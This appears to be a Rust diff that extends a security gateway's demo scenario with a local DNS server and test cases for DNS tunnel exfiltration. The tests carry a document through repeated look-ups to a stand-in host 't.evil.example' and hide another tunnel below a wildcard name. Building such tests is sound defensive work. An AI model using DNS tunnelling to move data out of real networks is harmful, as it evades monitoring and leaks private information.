@@ -12,12 +12,13 @@ mod net;
 mod report;
 mod servers;
 mod skill;
+mod tunnel;
 
 use crate::cli::Format;
 use crate::commands::canary::whole;
 use crate::config::{Config, Resolved};
 use crate::detection::corpus_file;
-use crate::run::{Running, Surroundings};
+use crate::run::{LookUps, Running, Surroundings};
 use anyhow::{Context, Result, ensure};
 use attacks::{ATTACKS, Attack, How};
 use backstop_detect::corpus::{Corpus, Document, Terms};
@@ -64,10 +65,16 @@ async fn scenario(folder: &std::path::Path) -> Result<Report> {
     let servers = servers::start(HONEST_NAMES).await?;
     let names = Arc::new(net::Names::default());
     let world = net::World { https: servers.https, http: servers.http, attacker: servers.attacker };
-    let config = config(folder)?;
+    let (received, visits) = (Arc::clone(&servers.received), Arc::clone(&servers.visits));
+    let name_server = tunnel::name_server(HONEST_NAMES, received, visits).await?;
+    let config = config(folder, name_server.address)?;
     register(&config)?;
     let policy = Source { name: "demo/policy.yaml".to_owned(), text: POLICY.to_owned() };
-    let surroundings = Surroundings { resolver: Arc::clone(&names) as _, wire: Arc::new(world) };
+    let surroundings = Surroundings {
+        resolver: Arc::clone(&names) as _,
+        look_ups: LookUps::Given,
+        wire: Arc::new(world),
+    };
     let running = Running::start(&config, surroundings, vec![policy]).await?;
     let gate = running.gate().clone();
     let operator = operator(&gate, &config)?;
@@ -94,6 +101,7 @@ async fn scenario(folder: &std::path::Path) -> Result<Report> {
     for attack in ATTACKS {
         rows.push(attempt(&skill, attack, running.ledger()).await?);
     }
+    rows.extend(by_names(&running).await?);
     rows.extend(quarantine(&skill, &gate, &operator, &opened.id).await?);
 
     let leaked: Vec<String> = names
@@ -122,6 +130,18 @@ async fn scenario(folder: &std::path::Path) -> Result<Report> {
     })
 }
 
+/// What is tried by looking names up alone: no connection, no proxy.
+async fn by_names(running: &Running) -> Result<Vec<Row>> {
+    let resolver = *running.resolvers().first().context("the demo's gateway has no resolver")?;
+    let undeclared = "DNS tunnel: a document in 40 look-ups";
+    let wildcard = "DNS tunnel below a wildcard row";
+    Ok(vec![
+        tunnel::honest(resolver, "api.weather.example", running.ledger()).await?,
+        tunnel::carry(resolver, undeclared, PLAN, "t.evil.example").await?,
+        tunnel::carry(resolver, wildcard, PLAN, "tiles.example").await?,
+    ])
+}
+
 /// The operator, by the token that the gateway made on its first start.
 fn operator(gate: &Gate, config: &Config) -> Result<Actor> {
     let file = crate::commands::remote::token_file(&config.state);
@@ -132,7 +152,7 @@ fn operator(gate: &Gate, config: &Config) -> Result<Actor> {
 }
 
 /// The configuration of a gateway that nobody else can reach: free ports, a folder of its own.
-fn config(folder: &std::path::Path) -> Result<Config> {
+fn config(folder: &std::path::Path, name_server: std::net::SocketAddr) -> Result<Config> {
     let set = |key: &str, value: &str| format!("{key}={value}");
     let canaries = folder.join("canaries");
     let mut file = OpenOptions::new()
@@ -147,6 +167,9 @@ fn config(folder: &std::path::Path) -> Result<Config> {
         set("state", &folder.display().to_string()),
         set("proxy.listen", "127.0.0.1:0"),
         set("api.listen", "127.0.0.1:0"),
+        set("dns.listen", "127.0.0.1:0"),
+        set("dns.upstreams", &name_server.to_string()),
+        set("dns.clients", "127.0.0.0/8=research/weather@1.2.0"),
     ];
     Config::parse(&Resolved::from_table(&flags)?)
 }
